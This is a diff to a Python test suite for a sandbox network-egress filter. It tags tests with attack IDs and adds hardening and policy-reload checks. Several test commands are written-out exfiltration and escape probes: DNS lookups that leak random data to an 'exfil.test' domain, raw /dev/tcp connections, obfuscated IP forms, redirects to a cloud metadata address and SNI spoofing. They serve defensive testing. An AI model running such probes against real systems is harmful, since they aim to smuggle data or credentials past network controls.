@@ -70,9 +70,12 @@ def raw(host, port, more=""):
     return RAW.format(host=host, port=port, more=more)
 
 
-def case(function):
-    CASES.append(function)
-    return function
+def case(ids=""):
+    """`ids`: of the attacks that it makes."""
+    def add(function):
+        CASES.append((f"{ids} {function.__name__.replace('_', ' ')}".strip(), function))
+        return function
+    return add
 
 
 class Box:
@@ -179,14 +182,14 @@ def tcp(address, port):
 
 # --- what is refused
 
-@case
+@case("F55 F02")
 def no_rule_no_network(given):
     box = given.box(policy(rules=""))
     box.shell("getent hosts a.test; exec 3<>/dev/tcp/93.184.216.34/443").expect(None, err="unreachable")
     given.nothing_left()
 
 
-@case
+@case("F10")
 def another_name_does_not_exist(given):
     box = given.box().shell("curl -sS -m 9 https://b.test/ https://evil.a.test.b.test/").expect(6)
     box.denied(host="b.test", l7="dns", dec="deny", why="no egress rule names this host and port")
@@ -195,7 +198,7 @@ def another_name_does_not_exist(given):
     assert not given.world.names.asked
 
 
-@case
+@case("F07 F08")
 def data_in_a_name_stays_here(given):
     box = given.box().shell("for i in $(seq 50); do getent hosts $(head -c 20 /dev/urandom | od -An -tx1 | "
                             "tr -d ' \\n').exfil.test; done; dig +tries=1 +time=2 TXT x.exfil.test @8.8.8.8; "
@@ -206,7 +209,7 @@ def data_in_a_name_stays_here(given):
     assert not given.world.names.asked
 
 
-@case
+@case("F01 F04 F13 F17")
 def an_address_without_a_rule_is_reset(given):
     box = given.box().shell(f"for to in {A}:80 {A}:443 [{A6}]:443 1572395042:80 0135.0270.0330.042:443; do "
                             "curl -sS -m 9 http://$to/open/x; done; true")
@@ -217,7 +220,7 @@ def an_address_without_a_rule_is_reset(given):
     given.nothing_left()
 
 
-@case
+@case("F23")
 def a_port_without_a_rule_is_refused(given):
     box = given.box().shell("curl -sS -m 9 telnet://a.test:22 < /dev/null; curl -sS -m 9 http://a.test:8080/").expect(
         7, err="Couldn't connect")
@@ -225,7 +228,7 @@ def a_port_without_a_rule_is_refused(given):
     given.nothing_left()
 
 
-@case
+@case("F02 F05 D05")
 def nothing_but_tcp_and_dns(given):
     script = """
 import socket
@@ -261,7 +264,7 @@ tried("bindtodevice", lambda: (s.setsockopt(1, 25, b"h0\\0"), s.connect(("93.184
     given.nothing_left()
 
 
-@case
+@case("F25 F26")
 def another_name_in_tls_is_refused(given):
     box = given.box().shell(
         "for name in '-servername b.test' '-servername www.a.test' -noservername '-servername 93.184.216.34'; do "
@@ -275,7 +278,7 @@ def another_name_in_tls_is_refused(given):
     assert given.world.came() == [(A, 443)]
 
 
-@case
+@case("F29")
 def what_is_no_tls_is_not_carried(given):
     box = given.box().shell("printf 'GET / HTTP/1.1\\r\\nHost: a.test\\r\\n\\r\\n' | nc -w 5 a.test 443; "
                             "printf 'SSH-2.0-x\\r\\n' | nc -w 5 a.test 443; true")
@@ -283,7 +286,7 @@ def what_is_no_tls_is_not_carried(given):
     given.nothing_left()
 
 
-@case
+@case("F13 F16")
 def names_that_lead_inwards_are_refused(given):
     names = ("internal", "metadata", "own", "loop", "mixed", "mapped")
     box = given.box(policy("".join(raw(f"{name}.test", 80) for name in names)))
@@ -294,7 +297,7 @@ def names_that_lead_inwards_are_refused(given):
     given.nothing_left()
 
 
-@case
+@case("F13")
 def private_is_given_only_where_a_rule_says_so(given):
     box = given.box(policy(raw("internal.test", 80, "private = true") + raw("metadata.test", 80, "private = true")))
     box.shell("curl -sS -m 9 http://internal.test/yes; curl -sS -m 9 http://metadata.test/").expect(None, out="/yes")
@@ -302,7 +305,7 @@ def private_is_given_only_where_a_rule_says_so(given):
     assert given.world.came() == [(INTERNAL, 80)]
 
 
-@case
+@case("F14")
 def a_name_that_changes_is_judged_each_time(given):
     given.world.names.turns["a.test"] = [[A], [A], ["127.0.0.1"]]
     box = given.box(policy(raw("a.test", 80)))
@@ -313,7 +316,7 @@ def a_name_that_changes_is_judged_each_time(given):
     assert set(given.world.came()) == {(A, 80)}
 
 
-@case
+@case("F40")
 def a_redirect_is_a_new_decision(given):
     box = given.box().shell(f"curl -sS -m 9 -L http://a.test/redirect/http://{METADATA}/latest; "
                             "curl -sS -m 9 -L http://a.test/redirect/http://b.test/; true")
@@ -322,7 +325,7 @@ def a_redirect_is_a_new_decision(given):
     assert set(given.world.came()) == {(A, 80)}
 
 
-@case
+@case("F22 F28 F34 F37")
 def requests_are_decided_one_by_one(given):
     box = given.box().shell("""
 ask() { curl -sS -m 9 -o /dev/null -w '%{http_code} ' "$@"; }
@@ -341,7 +344,7 @@ curl -sS -m 9 http://a.test/closed""")
 
 # --- what is allowed
 
-@case
+@case()
 def tls_by_name_reaches_its_origin(given):
     box = given.box().shell("curl -sS -m 20 --cacert /workspace/ca.pem https://a.test/hello; "
                             "env -i HTTPS_PROXY=http://127.0.0.1:9 curl -sS -m 9 --cacert /workspace/ca.pem https://a.test/; "
@@ -357,7 +360,7 @@ def tls_by_name_reaches_its_origin(given):
     box.verified()
 
 
-@case
+@case()
 def any_protocol_by_name(given):
     box = given.box().shell("exec 3<>/dev/tcp/www.a.test/7001; read -r line <&3; echo \"$line\"; "
                             "printf 'ping\\n' >&3; read -r line <&3; echo \"$line\"")
@@ -365,7 +368,7 @@ def any_protocol_by_name(given):
     assert box.opened(host="www.a.test", port=7001, l7="raw")["up"] == 5
 
 
-@case
+@case()
 def every_way_to_ask_for_a_name(given):
     box = given.box().shell("getent hosts www.a.test; getent ahosts www.a.test; getent ahostsv4 www.a.test; "
                             "getent ahostsv6 www.a.test; dig +short www.a.test; dig +tcp +short www.a.test @1.1.1.1; "
@@ -378,7 +381,7 @@ def every_way_to_ask_for_a_name(given):
     assert not given.world.names.asked or set(given.world.names.asked) == {"www.a.test"}
 
 
-@case
+@case()
 def ipv6_as_well(given):
     box = given.box(policy(raw("six.test", 80) + raw("2606:4700:10::/48", 7000)))
     box.shell(f"curl -sS -6 -m 9 http://six.test/six; curl -sS -4 -m 9 http://six.test/four; "
@@ -386,7 +389,7 @@ def ipv6_as_well(given):
     assert set(given.world.came()) == {(A6, 80), (A6, 7000)}
 
 
-@case
+@case()
 def a_program_that_knows_no_proxy_and_no_resolver(given):
     box = given.box()
     (box.work / "plain.c").write_text(r"""
@@ -419,7 +422,7 @@ int main(void) {
     box.opened(host="www.a.test", port=7001)
 
 
-@case
+@case()
 def a_big_transfer_is_whole(given):
     box = given.box(policy(raw("a.test", 80)))
     box.shell("curl -sS -m 50 http://a.test/bytes/200000000 | sha256sum; head -c 200000000 /dev/zero | tr '\\0' x | sha256sum")
@@ -428,7 +431,7 @@ def a_big_transfer_is_whole(given):
     assert box.opened(host="a.test")["down"] > 200_000_000
 
 
-@case
+@case("F11")
 def the_box_keeps_its_own_loopback(given):
     box = given.box().shell("""
 python3 -m http.server 8000 --bind 127.0.0.1 > /dev/null 2>&1 &
@@ -439,7 +442,7 @@ curl -sS -m 5 https://localhost/ ; curl -sS -m 5 http://127.0.0.1:80/""")
     given.nothing_left()
 
 
-@case
+@case()
 def ten_thousand_names(given):
     box = given.box(policy("""
 [[profile.net.egress]]
@@ -502,7 +505,7 @@ def with_secret(given, only="a.test:443"):
     return inspecting(given, 'inject = "token"', SECRET.format(path=secret, only=only))
 
 
-@case
+@case("F28")
 def tls_is_read_and_decided_request_by_request(given):
     box = inspecting(given).shell("""
 ask() { curl -sS -m 9 -o /dev/null -w '%{http_code} ' "$@"; }
@@ -517,7 +520,7 @@ curl -sS -m 9 https://a.test/closed""")
     assert [(method, path) for method, _, path in asked] == [("GET", "/open/x"), ("POST", "/open/y")], asked
 
 
-@case
+@case()
 def programs_of_every_kind_believe_the_authority(given):
     box = inspecting(given)
     box.shell("""
@@ -526,14 +529,16 @@ curl -sS -m 9 -o /dev/null https://a.test/open/curl && echo curl
 python3 -c 'import urllib.request as u; u.urlopen("https://a.test/open/urllib", timeout=9).read(); print("urllib")'
 python3 -c 'import requests; requests.get("https://a.test/open/requests", timeout=9).raise_for_status(); print("requests")'
 node -e 'require("https").get("https://a.test/open/node", r => { r.resume(); r.on("end", () => console.log("node")) })'
-git ls-remote https://a.test/open/git 2>&1 | grep -qi 'not valid\\|not found\\|denied\\|403' && echo git
+git ls-remote https://a.test/open/git
 openssl s_client -connect a.test:443 -servername a.test -verify_return_error -brief < /dev/null 2>&1 | grep -q 'Verification: OK' && echo openssl
 """, seconds=120)
-    for program in ("curl", "urllib", "requests", "node", "git", "openssl"):
+    for program in ("curl", "urllib", "requests", "node", "openssl"):
         assert program in box.out.split(), (program, box.out, box.err)
+    # What is there is no repository; that git asked is what counts.
+    assert any("/open/git/info/refs" in line for line in given.world.lines("asked")), box.err
 
 
-@case
+@case("F52 F53")
 def an_origin_that_cannot_be_believed_is_not(given):
     """egress verifies, whatever the box does about it."""
     box = given.box(policy(INSPECT.format(more="")))  # the host does not know the world's authority
@@ -541,7 +546,7 @@ def an_origin_that_cannot_be_believed_is_not(given):
     assert "certificate" in box.opened(host="a.test", l7="inspect", status=502)["why"]
 
 
-@case
+@case()
 def a_name_that_the_box_does_not_ask_for_in_tls(given):
     box = inspecting(given).shell("openssl s_client -connect a.test:443 -servername b.test -brief < /dev/null; "
                                   "openssl s_client -connect a.test:443 -noservername -brief < /dev/null; true")
@@ -549,7 +554,7 @@ def a_name_that_the_box_does_not_ask_for_in_tls(given):
     given.nothing_left()
 
 
-@case
+@case("F49 F50 G17")
 def a_credential_that_the_box_never_has(given):
     box = with_secret(given)
     script = """
@@ -574,28 +579,32 @@ cat plain own placed path body"""
     for line in sorted((box.state / "audit").glob("log*")):
         assert CANARY not in line.read_text()
     assert box.opened(path="/open/plain")["cred"] == "token"
+    assert "placeholder" in box.opened(path="/open/glovebox-secret-token")["remark"]
     box.verified()
 
 
-@case
+@case("F49")
 def a_credential_goes_to_its_endpoint_only(given):
     box = with_secret(given)
     text = box.policy.read_text()
     box.policy.write_text(text.replace('only = ["a.test:443"]', 'only = ["b.test:443"]'))
-    box.shell("curl -sS -m 9 https://a.test/open/x").expect(78, err="GB0")  # statically
+    checked = subprocess.run([PROGRAM, "policy", "check", "net.toml"], cwd=box.folder, capture_output=True, text=True)
+    assert checked.returncode == 1 and "GB0103" in checked.stdout + checked.stderr, checked
+    box.shell("curl -sS -m 9 https://a.test/open/x")
+    box.denied(host="a.test", l7="inspect", why="secret token is not bound to this endpoint")
     assert not given.world.came()
     box.policy.write_text(text + raw("b.test", 80))
     box.shell("curl -sS -m 9 -H 'X-Key: glovebox-secret-token' http://b.test/elsewhere").expect()
     assert CANARY not in "".join(given.world.lines("headers"))
 
 
-@case
+@case()
 def a_credential_that_is_not_there_stops_the_start(given):
     box = inspecting(given, 'inject = "token"', SECRET.format(path="/nonexistent/token", only="a.test:443"))
     box.shell("true").expect(78, err="secret token")
 
 
-@case
+@case()
 def nothing_of_the_memory_of_a_box_holds_the_credential(given):
     box = with_secret(given)
     process = box.start("/bin/bash", "-c", "curl -sS -m 9 https://a.test/open/x; touch up; until [ -e go ]; do sleep 0.05; done")
@@ -637,7 +646,7 @@ def role_of(process, name):
     return None
 
 
-@case
+@case("F56")
 def kill_9_of_egress_in_the_middle(given):
     """What flows ends at once, nothing gets out while it is gone, and then all is as before."""
     box = given.box(policy(raw("a.test", 7002) + raw("a.test", 80)))
@@ -655,7 +664,7 @@ until curl -sS -m 5 -o /dev/null http://a.test/again; do sleep 0.05; done; echo 
     box.verified()
 
 
-@case
+@case()
 def a_role_that_is_gone_for_good_is_no_way_out(given):
     box = given.box(policy(raw("a.test", 80)))
     process = box.start("/bin/bash", "-c", """
@@ -670,7 +679,7 @@ for i in 1 2 3 4 5 6; do curl -sS -m 3 -o /dev/null http://a.test/$i && echo thr
     given.nothing_left()
 
 
-@case
+@case("F43")
 def a_flood_of_connections_is_bounded(given):
     box = given.box(policy(raw("a.test", 7000), more="limits = { files = 4096 }"))
     box.run("/usr/bin/python3", "-c", """
@@ -703,7 +712,7 @@ s = socket.create_connection(("a.test", 7000), 9); s.sendall(b"y"); print("then"
     assert refused and sum(record.get("n", 1) for record in refused) >= 1600 - alive - 1, refused
 
 
-@case
+@case("F41")
 def who_says_nothing_is_sent_away(given):
     box = given.box().run("/usr/bin/python3", "-c", """
 import socket, time
@@ -722,9 +731,59 @@ print("after", round(time.monotonic() - began))
     given.nothing_left()
 
 
+@case()
+def what_the_role_kept(given):
+    box = given.box()
+    process = box.start("/bin/bash", "-c", "touch up; until [ -e go ]; do sleep 0.02; done")
+    wait_for("the box", lambda: (box.work / "up").exists())
+    role = role_of(process, "egress")
+    lines = pathlib.Path(f"/proc/{role}/status").read_text().splitlines()
+    seen = {key: value.split() for key, _, value in (line.partition(":") for line in lines)}
+    files = [os.readlink(entry) for entry in pathlib.Path(f"/proc/{role}/fd").iterdir()]
+    name = pathlib.Path(f"/proc/{role}/cmdline").read_bytes()
+    environment = pathlib.Path(f"/proc/{role}/environ").read_bytes()
+    (box.work / "go").touch()
+    process.communicate(timeout=30)
+    assert int(seen["CapEff"][0], 16) == 0 and int(seen["CapPrm"][0], 16) == 0, seen
+    assert seen["NoNewPrivs"] == ["1"] and seen["Seccomp"] == ["2"], seen
+    if given.user == "root":
+        assert seen["Uid"] == ["1900065605"] * 4 and seen["Groups"] == [] and int(seen["CapBnd"][0], 16) == 0, seen
+    assert name == b"glovebox: egress\0" and environment == b"", (name, environment)
+    # Sockets, and where it tells the operator what happens; no file.
+    other = {file for file in files if not file.startswith(("socket:", "pipe:", "anon_inode:"))}
+    assert other <= {"/dev/null"}, files
+
+
+@case("F56")
+def another_policy_is_for_what_is_opened_then(given):
+    """A session keeps the rules that it was opened with, the next one has the new ones."""
+    plane, folder, worker = Plane("--ttl", "20"), fresh_folder(), None
+    try:
+        box = given.box(policy(raw("a.test", 80)))
+        if given.user == "user":
+            os.chown(folder, USER_ID, USER_ID)
+        worker = Worker(plane, state=folder, policy=str(box.policy), program=box.program)
+        wait_for("the start", lambda: "serving" in worker.log())
+        say = lambda session, command: plane.result(session, plane.bash(session, command), 60)  # noqa: E731
+        ask = "curl -sS -m 5 -o /dev/null -w '%{http_code}' http://a.test/"
+        first = plane.session()
+        assert say(first, ask)[0].startswith("200")
+        box.policy.write_text(policy(raw("b.test", 80)))
+        os.kill(worker.process.pid, signal.SIGHUP)
+        wait_for("the new policy", lambda: "new sessions get another policy" in worker.log())
+        assert say(first, ask)[0].startswith("200")
+        second = plane.session()
+        assert not say(second, ask)[0].startswith("200")
+        assert say(second, ask.replace("a.test", "b.test"))[0].startswith("200")
+    finally:
+        if worker:
+            worker.end()
+        plane.end()
+
+
 # --- sessions
 
-@case
+@case("F47")
 def calls_of_a_session_share_a_network_and_sessions_do_not(given):
     plane = Plane("--ttl", "20")
     folder = fresh_folder()
@@ -756,8 +815,7 @@ def main():
     user, words = sys.argv[1], sys.argv[2:]
     egress_world.enter()
     world, failed = World(), False
-    for function in CASES:
-        name = function.__name__.replace("_", " ")
+    for name, function in CASES:
         if words and not any(word in name for word in words):
             continue
         given = Given(world, user)
